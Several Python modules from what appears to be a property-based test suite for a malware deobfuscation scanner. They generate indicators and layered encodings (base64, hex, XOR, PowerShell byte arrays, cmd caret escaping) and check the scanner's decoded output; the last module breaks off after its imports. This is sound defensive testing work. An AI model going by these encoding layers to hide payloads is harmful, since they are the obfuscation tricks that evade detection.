REQUIRED = {"judged": 625, "metamorphic_pairs": 187, "offset:0": 37, "offset:>=64": 37, "trigger_after_indicator": 12}
REQUIRED.update({"kind:" + k: 20 for k in KINDS})
REQUIRED["kind:pe"] = 5


def plan(tier, seed):
    quick = tier == "quick"
    secs = 30 if quick else 350
    return [{"name": f"ioc{i}", "gen": "ioc", "seconds": secs} for i in range(16)]


def simple_url(r):
    scheme = r.choice(netgen.SCHEMES)
    host = r.choice([netgen.domain(r), netgen.ipv4(r), netgen.domain(r)])
    port = r.choice([b"", b"", b":80", b":8080"])
    segs = [netgen.esc_some(r, netgen.label(r, 1, 8), 0.15) for _ in range(r.randint(0, 3))]
    path = (b"/" + b"/".join(segs)) if segs or r.random() < 0.5 else b""
    if path and r.random() < 0.3:
        path += r.choice([b".html", b".exe", b"/"])
    q = r.choice([b"", b"", b"?a=1", b"?q=" + netgen.esc_some(r, b"ab", 0.5) + b"%20" + netgen.esc_some(r, b"cd", 0.5)])
    f = r.choice([b"", b"", b"#top"])
    return scheme + b"://" + host + port + path + q + f


def make_case(r):
    kind = r.choice(KINDS + ["ipv4", "domain", "url", "windows"])
    dl, dr = r.choice(netgen.DELIMS)
    exp_types = None
    if kind == "ipv4":
        ind = netgen.ipv4(r)
        exp_types, value = ["network.ip"], ind
    elif kind == "domain":
        ind = netgen.domain(r, case_mix=r.random() < 0.2)
        exp_types, value = ["network.domain"], ind
        if r.random() < 0.12:
            # directly behind an '@' that does not make an e-mail address (empty / too short / punctuation-only local part)
            dl, dr = r.choice([b" @", b" jo@", b" +%-@", b"<-x@", b" a@"]), b" "
    elif kind == "email":
        ind = netgen.email(r)
        if r.random() < 0.3:
            # short host names are e-mail hosts too (the seven character minimum is about free-text domains)
            ind = ind.split(b"@")[0] + b"@" + r.choice([b"qq.com", b"t.co", b"gmx.de", b"a.io", netgen.label(r, 2, 3) + b".com"])
        exp_types, value = ["network.email"], ind
    elif kind == "url":
        ind = simple_url(r)
        while ind[-1:] in b"'),.;":
            ind = ind[:-1]
        exp_types, value = ["network.url"], neturl.normalise(ind)
        # the documented "Pascal string in a PE file" heuristic looks at a non-printable length byte in front of the URL:
        # keep the left delimiter printable
        dl, dr = r.choice([(b" ", b" "), (b'"', b'"'), (b"<", b">"), (b" ", b"\n"), (b" ", b"\x00")])
        if r.random() < 0.3:
            dl, dr = r.choice([(b"'", b"'"), (b"(", b")"), (b"='", b"';")])
    elif kind == "posix":
        ind = netgen.posix_path(r)
        exp_types, value = ["path"], ind
        # a POSIX path consists of base64 alphabet characters: a line break next to it lets the documented bare-base64
        # rule (which allows line breaks inside the encoded text) join it with the neighbouring word
        dl, dr = r.choice([(b" ", b" "), (b'"', b'"'), (b"<", b">"), (b"\x00", b"\x00"), (b"\t", b" ")])
    elif kind == "windows":
        ind, t = netgen.windows_path(r)
        exp_types, value = [t], ntpath.normpath(ind)
    elif kind == "exe":
        ind = netgen.exe_name(r)
        exp_types, value = ["executable.filename", "executable.library.filename"], ind
    elif kind == "createobject":
        ind = netgen.createobject(r)
        exp_types, value = ["vba.function.createobject"], ind
    else:
        img, size = r.choice(pegen.valid_images(r))
        ind = img[:size]
        exp_types, value = ["pe_file"], ind
        dl, dr = r.choice([(b" ", b" "), (b"\x00", b"\x00"), (b"", b""), (b"DMZ ", b" MZ")])
        if r.random() < 0.15:
            # directly behind the cut-off head of another image (alone it is not a structurally valid file; with the bytes that
            # follow it may become one whose span runs into this image - this image is still an embedded PE file of its own)
            other, osize = r.choice(pegen.valid_images(r))
            dl = other[: r.choice([0x40, 0x80, 0x100, 0x1C0, 0x1FF, 0x200])]
    if r.random() < 0.03:
        # far longer than any plausible fixed limit (MAX_PATH 260, 2 KiB URLs, 8191 byte command lines, 64 KiB)
        n = r.choice([40, 300, 1300, 6000])
        longer = None

        def word():
            # (a segment that reads as a command token - cmd, pwsh, powershell - starts a shell result of its own whose end
            # depends on the text behind the path: not neutral for the position-independence comparison)
            while True:
                w = bytes(r.choice(netgen.LOWER + netgen.DIGITS + b"_") for _ in range(r.randint(3, 9)))
                if w not in (b"cmd", b"pwsh", b"powershell"):
                    return w

        if kind == "url":
            longer = ind.split(b"?")[0].split(b"#")[0].rstrip(b"/") + b"/" + b"/".join(word() for _ in range(n)) + r.choice([b"", b"?k=" + word() * (n // 4)])
            value = neturl.normalise(longer)
        elif kind == "posix":
            longer = b"/" + b"/".join(word() for _ in range(n)) + b"/" + word() + b".cfg"
            value = longer
        elif kind == "windows" and exp_types == ["windows.path"] and ind[1:3] == b":\\":
            longer = ind[:3] + b"\\".join(netgen._wseg(r) for _ in range(n)) + b"\\" + netgen._wseg(r) + b".dll"
            value = ntpath.normpath(longer)
        elif kind == "exe":
            longer = word() * (n // 6 + 1) + b".exe"
            value = longer
        elif kind == "email":
            longer = word().replace(b"_", b"a") * (n // 30 + 1) + b"@" + ind.split(b"@")[1]
            value = longer
        elif kind == "domain":
            longer = b".".join(netgen.label(r, 3, 9) for _ in range(min(n, 300) // 10 + 1)) + b"." + ind
            value = longer
        if longer is not None:
            ind = longer
            kind_long = True
        else:
            kind_long = False
    else:
        kind_long = False
    return {"kind": kind, "ind": ind, "types": exp_types, "value": value, "dl": dl, "dr": dr, "long": kind_long}


TRIGGERS_AFTER = [b"<t>", b" <t:x>", b" section", b" sec.", b" version", b"ersion", b' "ersion']


def surround(r, c, offset_class=None):
    prefix = netgen.offsets_prefix(r, offset_class)
    if c["dl"] == b" " and prefix.endswith(b" "):
        prefix = prefix[:-1]
    if r.random() < 0.08 and c["kind"] == "pe":
        prefix = r.choice([b"forwarded by the DMZ relay ", b"zone=DMZ; "]) + prefix[-20:]
    suffix = netgen.neutral_text(r)
    trig = False
    if c["kind"] == "ipv4" and r.random() < 0.25:
        suffix = r.choice(TRIGGERS_AFTER) + b" " + suffix
        trig = True
    dl, dr = c["dl"], c["dr"]
    if not prefix and dl == b" ":
        dl = b""
    if dr == b" " and not suffix:
        dr = b""
    return prefix + dl, dr + suffix, trig


def find_expected(root, types, value, a, b):
    """Node with one of `types`, `value` and absolute span [a,b), reachable through undecoded contexts."""
    stack = [(c, 0) for c in root.children]
    near = None
    while stack:
        node, base = stack.pop()
        s, e = base + node.start, base + node.end
        if node.type in types and (s, e) == (a, b):
            if bytes(node.value) == value:
                return node, None
            near = f"node of type {node.type!r} at the right span has value {bytes(node.value)[:60]!r}"
        elif node.type in types and bytes(node.value) == value and near is None:
            near = f"node with the right type and value denotes [{s},{e}) instead of [{a},{b})"
        if mon_layers.is_context(node):
            stack.extend((c, s) for c in node.children)
    return None, near or "no node of the expected type"


_H = None


def judge(c, pre, post, pre2, post2, ctx, case, trig=False):
    global _H
    if _H is None:
        _H = scan.Harness(tap=False)
    md = _H.md
    ctx.evaluated()
    if not mon_layers.neutral(md, pre + b" " + post) or not mon_layers.neutral(md, pre2 + b" " + post2):
        ctx.count("discarded:surroundings-not-neutral")
        return
    if case.get("warm"):
        try:
            md.scan(runner.unhx(case["warm"]))
        except Exception:  # noqa: BLE001
            pass
    data = pre + c["ind"] + post
    try:
        root = md.scan(data)
    except Exception as e:  # noqa: BLE001
        # no result at all for a text that contains the indicator: it is not reported (C01 sees the same event as a raise)
        ctx.count("scan_raised(C01):" + type(e).__name__)
        ctx.violation(f"ioc:{c['kind']}:scan-raised:{type(e).__name__}", f"{c['kind']} {c['ind'][:80]!r} between neutral text: the scan raised "
                                                                         f"{type(e).__name__}: {str(e)[:120]} - nothing is reported", case)
        return
    ctx.count("judged")
    ctx.count("kind:" + c["kind"])
    if c.get("long"):
        ctx.count("longer_than_any_fixed_limit")
    off = len(pre)
    ctx.count("offset:0" if off == 0 else ("offset:>=64" if off >= 64 else "offset:small"))
    if trig:
        ctx.count("trigger_after_indicator")
    node, why = find_expected(root, c["types"], c["value"], off, off + len(c["ind"]))
    desc = f"{c['kind']} {c['ind'][:80]!r} at offset {off} between {pre[-12:]!r} and {post[:12]!r}"
    if node is None and mon_layers.swallowed_by(root, off, off + len(c["ind"]), same=tuple(c["types"])) is not None:
        # indicator + neighbouring text form another documented decoding (e.g. bare base64 across a line break)
        ctx.count("discarded:indicator-plus-neighbour-text-is-another-decoding")
        return
    if node is None:
        where = "offset0" if off == 0 else "offset>0"
        kind = "span" if "denotes" in why else ("value" if "has value" in why else "missing")
        ctx.violation(f"ioc:{c['kind']}:{kind}:{where}", f"{desc}: {why}", case)
        return
    ctx.nontrivial(c["kind"].encode() + data)
    # metamorphic: another offset / more neutral text
    data2 = pre2 + c["ind"] + post2
    try:
        root2 = md.scan(data2)
    except Exception:  # noqa: BLE001
        return
    ctx.count("metamorphic_pairs")
    node2, why2 = find_expected(root2, c["types"], c["value"], len(pre2), len(pre2) + len(c["ind"]))
    if node2 is None and mon_layers.swallowed_by(root2, len(pre2), len(pre2) + len(c["ind"]), same=tuple(c["types"])) is not None:
        ctx.count("discarded:indicator-plus-neighbour-text-is-another-decoding")
    elif node2 is None:
        ctx.violation(f"ioc:{c['kind']}:position-dependent", f"{desc}: found here but not at offset {len(pre2)} between {pre2[-12:]!r} and "
                                                              f"{post2[:12]!r} ({why2})", case)
    elif tree.canon_children(node) != tree.canon_children(node2):
        ctx.violation(f"ioc:{c['kind']}:subtree-differs", f"{desc}: the sub-tree under the indicator differs when it is moved to offset {len(pre2)}", case)
    ctx.sample_light({"kind": c["kind"], "data": runner.hx(data)}, root)


def run_shard(spec, ctx):
    common.add_sampler(ctx, every=41)
    r = runner.rng(ctx.seed, ID, spec["name"])
    while not ctx.expired():
        c = make_case(r)
        pre, post, trig = surround(r, c, r.choice(["0", "small", "small", "64", "big"]))
        pre2, post2, _ = surround(r, c)
        case = {"c": {"kind": c["kind"], "ind": runner.hx(c["ind"]), "types": c["types"], "value": runner.hx(c["value"])},
                "pre": runner.hx(pre), "post": runner.hx(post), "pre2": runner.hx(pre2), "post2": runner.hx(post2), "trig": trig}
        if c["kind"] == "domain" and r.random() < 0.15:
            first, _, rest = c["ind"].lower().partition(b".")
            if first.isalpha():
                case["warm"] = runner.hx(b"x " + first + b"." + rest.capitalize() + b" y " + c["ind"].upper())
        if not ctx.begin(case):
            continue
        judge(c, pre, post, pre2, post2, ctx, case, trig)


def replay(case, ctx):
    common.add_sampler(ctx)
    c = case["c"]
    cc = {"kind": c["kind"], "ind": runner.unhx(c["ind"]), "types": c["types"], "value": runner.unhx(c["value"])}
    judge(cc, runner.unhx(case["pre"]), runner.unhx(case["post"]), runner.unhx(case["pre2"]), runner.unhx(case["post2"]), ctx, case,
          case.get("trig", False))
