"""Shared runner of C13 / C14 / C15: completeness cases (single encodings with ground truth, judged by the C02 oracle at
height 1) + tree monitors on every labelled node met in broader workloads."""

from __future__ import annotations

from vf import mon_layers, runner, scan
from vf.gens import inputs
from vf.props import c02, common

import re

_OPERATOR_LITERAL = re.compile(rb"""(["'])[\s_]*(?:&amp;|&|\+)[\s_]*\1""")
_H = None
_F = None


def harnesses():
    global _H, _F
    if _H is None:
        _H = scan.Harness(tap=False)
        _F = scan.Harness(tap=False)
    return _H, _F


def judge_rec(rec, ctx, case, monitor):
    h, f = harnesses()
    ctx.evaluated()

    def report(key, msg):
        ctx.violation(key, msg, case)

    try:
        judged = mon_layers.judge_stack(rec, None, h.md, report, ctx.counters, f.md)
    except Exception as e:  # noqa: BLE001
        ctx.count("scan_raised(C01):" + type(e).__name__)
        return
    if judged and rec.get("wrap"):
        # the same text once more on the same scanners: results must not depend on what was scanned before
        try:
            mon_layers.judge_stack(rec, None, h.md, lambda k, m: report(k + ":second-scan", m), ctx.counters, f.md)
            ctx.count("rescans_inside_context")
        except Exception as e:  # noqa: BLE001
            ctx.count("scan_raised(C01):" + type(e).__name__)
    if judged:
        ctx.count("complete:" + rec["layers"][0]["name"])
        ctx.nontrivial(rec["data"])
        if monitor is not None and mon_layers.last_root is not None:
            monitor(mon_layers.last_root, lambda k, m: ctx.violation(k, f"{m}; input {rec['data'][:100]!r}", case), ctx.counters)


def judge_pair(rec1, rec2, ctx, case, monitor):
    h, _ = harnesses()
    ctx.evaluated()
    try:
        judged = mon_layers.judge_pair(rec1, rec2, h.md, lambda k, m: ctx.violation(k, m, case), ctx.counters)
    except Exception as e:  # noqa: BLE001
        ctx.count("scan_raised(C01):" + type(e).__name__)
        return
    if judged:
        ctx.nontrivial(rec1["data"] + rec2["data"])
        if monitor is not None and mon_layers.last_root is not None:
            monitor(mon_layers.last_root, lambda k, m: ctx.violation(k, f"{m}; input {(rec1['data'] + rec2['data'])[:100]!r}", case), ctx.counters)


def judge_scan(data, depth, monitor, ctx, label):
    h, _ = harnesses()
    case = {"kind": "scan", "data": runner.hx(data), "depth": depth, "label": label}
    ctx.evaluated()
    try:
        root = h.scan(data, depth)
    except Exception:  # noqa: BLE001
        ctx.count("scan_raised(C01)")
        return

    def report(key, msg):
        ctx.violation(key, f"{msg}; input {data[:100]!r}", case)

    before = sum(ctx.counters.values())
    monitor(root, report, ctx.counters)
    if sum(ctx.counters.values()) > before:
        ctx.nontrivial(data)
        ctx.sample_light(case, root)


def run_shard(pid, spec, ctx, case_gen, monitor, extra=None):
    common.add_sampler(ctx, every=41)
    r = runner.rng(ctx.seed, pid, spec["name"])
    if spec["gen"] == "complete":
        i = 0
        while not ctx.expired():
            i += 1
            rec = case_gen(r)
            if rec is None:
                ctx.count("redrawn(domain)")
                continue
            if rec.get("absent"):
                case = {"kind": "absent", "data": runner.hx(rec["data"]), "label": rec["label"]}
                if ctx.begin(case):
                    judge_absent(rec, ctx, case)
                continue
            if i % 8 == 0 and not rec.get("wrap"):
                # the same kind of expression (or another one of this property) earlier in the same text
                rec0 = None
                for _ in range(5):
                    rec0 = case_gen(r)
                    if rec0 is not None and not rec0.get("absent") and not rec0.get("wrap"):
                        break
                    rec0 = None
                if rec0 is not None and (_OPERATOR_LITERAL.search(rec0["blob"]) or _OPERATOR_LITERAL.search(rec["blob"])):
                    # a literal that is itself a bare joining operator (the property's own exclusion) can chain text of
                    # one expression to the other's
                    ctx.count("pairs_skipped_operator_literal")
                    rec0 = None
                if rec0 is not None:
                    pcase = {"kind": "pair", "first": c02.encode_rec(rec0), "second": c02.encode_rec(rec)}
                    if ctx.begin(pcase):
                        judge_pair(rec0, rec, ctx, pcase, monitor)
                    continue
            case = {"kind": "rec", "rec": c02.encode_rec(rec)}
            if not ctx.begin(case):
                continue
            judge_rec(rec, ctx, case, monitor)
            if i % 211 == 1:
                ctx.sample({"encoding": rec["layers"][0]["name"], "input": repr(rec["data"][:100]), "payload": repr(rec["payload"][:40])})
        return
    if spec["gen"] == "big":
        from vf.gens import codecgen
        for form, n, rec in codecgen.big_cases(pid, r, spec.get("sizes")):
            if ctx.expired():
                break
            if rec is None:
                ctx.count("redrawn(domain)")
                continue
            case = {"kind": "rec", "rec": c02.encode_rec(rec)}
            if not ctx.begin(case):
                continue
            ctx.count("big_cases")
            ctx.counters["big_max_blob_bytes"] = max(ctx.counters.get("big_max_blob_bytes", 0), len(rec["blob"]))
            judge_rec(rec, ctx, case, monitor)
            ctx.sample({"encoding": form, "blob_bytes": len(rec["blob"]), "payload_bytes": len(rec["payload"])})
        return
    if spec["gen"] == "extra" and extra is not None:
        extra(r, ctx)
        return
    for label, data, depth in inputs.generate(spec, r):
        if ctx.expired():
            break
        if not ctx.begin({"kind": "scan", "data": runner.hx(data), "depth": depth, "label": label}):
            continue
        judge_scan(data, depth, monitor, ctx, label)


def judge_absent(rec, ctx, case):
    """An expression that must NOT be reported (e.g. chr of an unencodable code point)."""
    h, _ = harnesses()
    ctx.evaluated()
    try:
        root = h.scan(rec["data"])
    except Exception:  # noqa: BLE001
        ctx.count("scan_raised(C01)")
        return
    ctx.count("absent_cases")
    for n in root:
        if n.obfuscation == rec["label"]:
            ctx.violation("absent:" + rec["label"], f"{rec['blob']!r} must not be reported but a {rec['label']} node exists", case)
            return


def replay(pid, case, ctx, monitor):
    common.add_sampler(ctx)
    if case.get("kind") == "pair":
        judge_pair(c02.decode_rec(case["first"]), c02.decode_rec(case["second"]), ctx, case, monitor)
    elif case.get("kind") == "rec":
        judge_rec(c02.decode_rec(case["rec"]), ctx, case, monitor)
    elif case.get("kind") == "absent":
        judge_absent({"data": runner.unhx(case["data"]), "label": case["label"], "blob": b"?"}, ctx, case)
    elif case.get("kind") == "scan":
        judge_scan(runner.unhx(case["data"]), case.get("depth"), monitor, ctx, case.get("label", "replay"))
