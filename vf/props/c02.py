"""C02 - layered obfuscation round-trips: every layer is peeled, in order, to the payload."""

from __future__ import annotations

from vf import mon_layers, runner, scan
from vf.gens import layers

ID = "C02"
RULE = ("cases = prefix + E1(E2(...En(payload))) + suffix, n = 1..4 (thorough 1..10), encoders drawn from 21 spellings of the 17 layer kinds "
        "(bare base64, atob, Base64Decode, FromBase64String, hex lower/upper, FromHexString, UTF-16LE, XML decimal/hex/mixed references, "
        "unescape, concatenation, reverse/reversed, StrReverse, 4 replace dialects, caret escaping under cmd /c, PowerShell byte arrays); "
        "every intermediate plaintext satisfies the documented domain predicate of the encoder applied to it (re-drawn otherwise); "
        "indicator payloads; offsets 0/1/2/7/13/63-65/200/1000; preconditions checked by scanning (neutral surroundings, payload "
        "contains no decoded node) - failing cases are discarded and counted. Oracle: chain of nodes with the successive plaintexts, "
        "types and labels, each denoting exactly its blob (through undecoded contexts only), innermost children == independent "
        "scan of the payload node, flatten == surroundings with re-quoted payload, chain cut exactly at depth limits < n. "
        "Added after the blind seed rounds: every element / separator spelling of byte arrays, any white space where the expression syntax allows it, payloads of 3 kB..70 kB. "
        "distinct_nontrivial = distinct judged inputs.")
ASSUMPTIONS = ["literal layers (concat/reverse/replace) accept printable ASCII without quote, back-tick and backslash",
               "cmd-caret directly inside cmd-caret is domain-incompatible (one cmd result swallows the other)"]
EXPECTED_WALL = {"quick": 60, "thorough": 500}
REQUIRED = {"stacks_judged": 250, "stacks_height_2": 37, "stacks_height_3": 25, "stacks_height_4": 12, "stacks_cut_by_limit": 12,
            "stacks_with_indicators_beneath": 62}
MIN_PAIRS = {"quick": 150, "thorough": 200}


def plan(tier, seed):
    quick = tier == "quick"
    secs = 40 if quick else 400
    return [{"name": f"stack{i}", "gen": "stack", "seconds": secs, "maxh": 4 if quick else 10} for i in range(16)]


_H = None
_F = None


def judge(rec, k, ctx, case):
    global _H, _F
    if _H is None:
        _H = scan.Harness(tap=False)
        _F = scan.Harness(tap=False)
    ctx.evaluated()

    def report(key, msg):
        ctx.violation(key, msg, case)

    try:
        judged = mon_layers.judge_stack(rec, k, _H.md, report, ctx.counters, _F.md)
    except Exception as e:  # noqa: BLE001 - scan raised: C01's business, counted
        ctx.count("scan_raised(C01):" + type(e).__name__)
        return
    if judged:
        ctx.nontrivial(rec["data"])


def encode_rec(rec):
    return {"data": runner.hx(rec["data"]), "prefix": runner.hx(rec["prefix"]), "suffix": runner.hx(rec["suffix"]),
            "blob": runner.hx(rec["blob"]), "payload": runner.hx(rec["payload"]), "wrap": bool(rec.get("wrap")), "decoy": bool(rec.get("decoy")), "glue": bool(rec.get("glue")), "strict": bool(rec.get("strict")),
            "layers": [dict(l, plain=runner.hx(l["plain"]), value=runner.hx(l["value"])) for l in rec["layers"]]}


def decode_rec(j):
    return {"data": runner.unhx(j["data"]), "prefix": runner.unhx(j["prefix"]), "suffix": runner.unhx(j["suffix"]),
            "blob": runner.unhx(j["blob"]), "payload": runner.unhx(j["payload"]), "wrap": bool(j.get("wrap")), "decoy": bool(j.get("decoy")), "glue": bool(j.get("glue")), "strict": bool(j.get("strict")),
            "layers": [dict(l, plain=runner.unhx(l["plain"]), value=runner.unhx(l["value"])) for l in j["layers"]]}


def run_shard(spec, ctx):
    r = runner.rng(ctx.seed, ID, spec["name"])
    i = 0
    while not ctx.expired():
        i += 1
        h = r.choice([1, 2, 2, 3, 3, 4] if spec["maxh"] <= 4 else [1, 2, 3, 4, 5, 6, 8, 10])
        big = r.random() < 0.03
        if big:
            names = ["psbytes"] + [r.choice([e.name for e in layers.ENCODERS[:-1]]) for _ in range(h - 1)]
            rec = layers.build_stack(r, h, names=names, pad_to=520)
        elif r.random() < 0.005:
            # payloads longer than any plausible fixed limit (8191, 64 KiB) under one to three layers
            rec = layers.build_stack(r, min(h, 3), pad_to=r.choice([3000, 3000, 9000, 9000, 30000, 70000]), max_blob=1500000)
            if rec is not None:
                ctx.count("long_payload_stacks")
        else:
            rec = layers.build_stack(r, h)
        if rec is None:
            ctx.count("redrawn(domain)")
            continue
        x = r.random()
        k = None if x < 0.6 else r.choice(list(range(0, h + 2)))
        case = {"kind": "stack", "rec": encode_rec(rec), "k": k}
        if not ctx.begin(case):
            continue
        judge(rec, k, ctx, case)
        if i % 101 == 1:
            ctx.sample({"stack": [l["name"] for l in rec["layers"]], "offset": len(rec["prefix"]), "k": k, "input": repr(rec["data"][:100]),
                        "payload": repr(rec["payload"][:60])})


def replay(case, ctx):
    judge(decode_rec(case["rec"]), case.get("k"), ctx, case)


def inconclusive(merged):
    pairs = [k for k in merged["counters"] if k.startswith("pair:")]
    need = 100
    return [f"only {len(pairs)} distinct adjacent encoder pairs judged (< {need})"] if len(pairs) < need else []


def evidence_extra(merged):
    pairs = sorted(k[5:] for k in merged["counters"] if k.startswith("pair:"))
    return {"distinct_adjacent_encoder_pairs": len(pairs), "pairs_sample": pairs[:40]}
