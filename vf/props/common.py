"""Helpers shared by property modules."""

from __future__ import annotations

from vf import tree


def describe(root, limit=6):
    out = []
    for node, _, depth in tree.preorder(root):
        out.append(f"{'>' * depth}{node.type or '∅'}{'/' + node.obfuscation if node.obfuscation else ''}[{node.start},{node.end})")
        if len(out) >= limit:
            out.append("...")
            break
    return out


def add_sampler(ctx, every=53):
    """ctx.sample_light(case, root): record roughly every `every`-th case with what was observed on it."""
    state = {"n": 0}

    def sample_light(case, root=None, **obs):
        if root is not None and not root.children and len(ctx.samples) >= 2:
            return  # prefer cases on which something was observed
        state["n"] += 1
        if state["n"] % every != 1:
            return
        s = {}
        for k, v in case.items():
            if k == "data" and isinstance(v, str):
                raw = bytes.fromhex(v)
                s["input"] = repr(raw[:120]) + ("..." if len(raw) > 120 else "")
                s["input_len"] = len(raw)
            else:
                s[k] = v
        if root is not None:
            s["tree"] = describe(root)
        s.update(obs)
        ctx.sample(s)

    ctx.sample_light = sample_light
