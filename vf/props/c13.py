"""C13 - base64, hexadecimal and XOR decodings are bit-exact."""

from __future__ import annotations

from vf import mon_codec, runner
from vf.gens import codecgen
from vf.props import codec_common as cc

ID = "C13"
RULE = ("(soundness) every node labelled encoding.base64 / decoded.hexadecimal / encoding.hexidecimal / cipher.xorK / cipher.multibyte_xor "
        "in results over layered, mutated, soup and xor workloads is re-derived from the text it replaced with an own RFC 4648 decoder "
        "(bare form: line breaks, &#..; escapes and the <\\0  \\0 artefact dropped; call forms: the quoted argument), hex digits -> "
        "bytes, child == parent ^ K with K < 256 and span [0,len), multibyte child == parent ^ repeating key (period <= 65). "
        "(completeness) payloads of every length / padding form, boundary of each acceptance rule on the accepted side (22/24 chars, 7 "
        "distinct characters, slash ratio <= 3/32, line-broken), hex 10/11 pairs lower/upper, upper-case hex with an 18-30 digit "
        "prefix, the four call forms with both quote styles, byte arrays: one node covering exactly the encoded text with the "
        "payload as value; -bxor K for K in 0..999 next to both From*String forms and byte arrays: child present iff 1<=K<=255 and "
        "equal to payload ^ K, also for two conversions under one key and after a decoy buffer stating another key was scanned and "
        "released (identity-keyed state); completeness cases also run inside CreateObject( ... ) contexts, on a second scan, and "
        "after decoy histories. Added after the blind seed rounds: every line-break spelling the base64 pattern names, every byte-array element / separator spelling, mixed-case FromHexString digits, zero-padded keys, xor payloads of 4095..70000 bytes, a 'big' shard with 3 kB..140 kB payloads in every form, expressions partially overlapped by a path, an earlier lone quote character, and every eighth case judged as the second of a pair of expressions in one text. "
        "distinct_nontrivial = distinct inputs with a judged node / case.")
ASSUMPTIONS = ["only the accepted side of each acceptance rule is asserted"]
EXPECTED_WALL = {"quick": 50, "thorough": 400}
REQUIRED = {"stacks_judged": 187, "c13_b64_bare": 37, "c13_b64_call": 62, "c13_hex_bare": 37, "c13_hex_call": 25, "c13_xor_single": 18,
            "c13_xor_multibyte": 5, "xor_cases": 37, "complete:b64-linebroken": 5, "complete:HEX": 12, "complete:psbytes": 5}


def plan(tier, seed):
    quick = tier == "quick"
    secs = 25 if quick else 300
    shards = [{"name": f"complete{i}", "gen": "complete", "seconds": secs} for i in range(6)]
    shards += [{"name": f"xor{i}", "gen": "extra", "seconds": secs} for i in range(3)]
    shards.append({"name": "big", "gen": "big", "seconds": secs})  # expressions longer than any plausible fixed limit
    for g in ("layer", "seedmut", "soup", "xorbytes", "matryoshka", "ctxdec", "xor"):
        shards.append({"name": g, "gen": g, "seconds": secs})
    return shards


def judge_adjacent_hex(r, ctx):
    """An upper-case hex run directly followed by a lower-case one: two runs of same-case pairs, each decoded as one unit
    (together they are a base64-alphabet text made of hex digits only, which the acceptance rules exclude)."""
    from vf.gens import netgen

    h, _ = cc.harnesses()
    p1 = codecgen.rand_payload(r, r.choice([10, 12, 14, 16]))
    p2 = codecgen.rand_payload(r, r.choice([10, 12, 14, 16]))
    p2 = bytes([0xA0 | (p2[0] & 0x0F)]) + p2[1:]  # the lower-case run starts with a letter, so the upper-case run cannot extend into it
    up, lo = p1.hex().upper().encode(), p2.hex().encode()
    if not any(c in b"ABCDEF" for c in up) or not any(c in b"abcdef" for c in lo) or up[-1:].isdigit() and False:
        return
    pre = netgen.offsets_prefix(r)
    data = pre + up + lo + b" " + netgen.neutral_text(r)
    case = {"kind": "adjhex", "data": runner.hx(data), "p1": runner.hx(p1), "p2": runner.hx(p2), "off": len(pre)}
    if not ctx.begin(case):
        return
    check_adjacent_hex(data, p1, p2, len(pre), ctx, case)


def check_adjacent_hex(data, p1, p2, off, ctx, case):
    h, _ = cc.harnesses()
    ctx.evaluated()
    ctx.count("adjacent_hex_cases")
    try:
        root = h.scan(data)
    except Exception as e:  # noqa: BLE001
        ctx.count("scan_raised(C01):" + type(e).__name__)
        return
    # the lower-case run may begin with digits that the upper-case run legitimately takes (leftmost-longest): only the
    # total coverage and the decoded bytes are asserted
    hexnodes = [n for n in root.children if n.obfuscation == "decoded.hexadecimal"]
    got = b"".join(bytes(n.value) for n in hexnodes)
    span_ok = hexnodes and hexnodes[0].start == off and hexnodes[-1].end == off + 2 * (len(p1) + len(p2)) and \
        all(a.end == b.start for a, b in zip(hexnodes, hexnodes[1:]))
    if got != p1 + p2 or not span_ok:
        kinds = [(n.type, n.obfuscation, n.start, n.end) for n in root.children][:4]
        ctx.violation("hex:adjacent-runs", f"upper-case hex run followed by a lower-case run is not decoded run by run: top-level results {kinds}; "
                                           f"input {data[:100]!r}", case)
    ctx.nontrivial(data)


def xor_cases(r, ctx):
    h, _ = cc.harnesses()
    i = 0
    while not ctx.expired():
        i += 1
        if i % 5 == 0:
            judge_adjacent_hex(r, ctx)
            continue
        data, p, key, form = codecgen.c13_xor_case(r)
        case = {"kind": "xor", "data": runner.hx(data), "payload": runner.hx(p), "key": key, "form": form,
                "decoy_key": (r.randrange(1, 256) if r.random() < 0.5 else None)}
        if not ctx.begin(case):
            continue
        judge_xor(data, p, key, form, ctx, case)
        if i % 101 == 1:
            ctx.sample({"xor_case": repr(data[:100]), "key": key, "form": form})


def judge_xor(data, p, key, form, ctx, case):
    h, _ = cc.harnesses()
    ctx.evaluated()
    ctx.count("xor_cases")
    if case.get("decoy_key") is not None:
        # history aimed at state keyed on object identity: a buffer of the same length stating ANOTHER key is scanned and
        # released, then the real input is created at the address that was just freed
        import gc
        hexdata = case["data"]
        stmt = b" -bxor %d " % case["decoy_key"]
        decoy = (stmt + b"z" * len(data))[: len(data)]
        data = None
        try:
            h.scan(decoy)
        except Exception:  # noqa: BLE001
            pass
        decoy = None
        gc.collect()
        data = bytes.fromhex(hexdata)
        ctx.count("xor_cases_after_decoy")
    try:
        root = h.scan(data)
    except Exception as e:  # noqa: BLE001
        ctx.count("scan_raised(C01):" + type(e).__name__)
        return

    def report(k, msg):
        ctx.violation(k, f"{msg}; input {data[:100]!r}", case)

    mon_codec.check_c13(root, report, ctx.counters)
    holders = [n for n in root if n.type == "powershell.bytes" and bytes(n.value) == p and n.parent is root]
    if not holders:
        report(f"xor:{form}:container-missing", f"the {form} expression next to -bxor {key} was not decoded to its payload")
        return
    if len(holders) > 1:
        ctx.count("xor_cases_two_conversions")
    for node in holders:
        kids = [c for c in node.children if c.obfuscation.startswith("cipher.xor")]
        if 1 <= key <= 255:
            want = bytes(b ^ key for b in p)
            if not kids:
                report(f"xor:{form}:child-missing", f"-bxor {key} next to a {form} payload but no xor child")
            elif kids[0].obfuscation != f"cipher.xor{key}" or bytes(kids[0].value) != want:
                report(f"xor:{form}:child-wrong", f"xor child {kids[0].obfuscation!r} {bytes(kids[0].value)[:30]!r}, expected key {key} -> {want[:30]!r}")
        elif kids:
            report(f"xor:{form}:child-for-key-out-of-range", f"key {key} is not a single-byte key (or is 0) but an xor child {kids[0].obfuscation!r} was reported")
    ctx.nontrivial(data)


def run_shard(spec, ctx):
    cc.run_shard(ID, spec, ctx, codecgen.c13_case, mon_codec.check_c13, extra=xor_cases)


def replay(case, ctx):
    if case.get("kind") == "adjhex":
        check_adjacent_hex(runner.unhx(case["data"]), runner.unhx(case["p1"]), runner.unhx(case["p2"]), case["off"], ctx, case)
        return
    if case.get("kind") == "xor":
        judge_xor(runner.unhx(case["data"]), runner.unhx(case["payload"]), case["key"], case["form"], ctx, case)
    else:
        cc.replay(ID, case, ctx, mon_codec.check_c13)
