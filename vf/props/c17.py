"""C17 - keyword search reports exactly the delimited, case-insensitive occurrences."""

from __future__ import annotations

import itertools
import os
import shutil
import tempfile

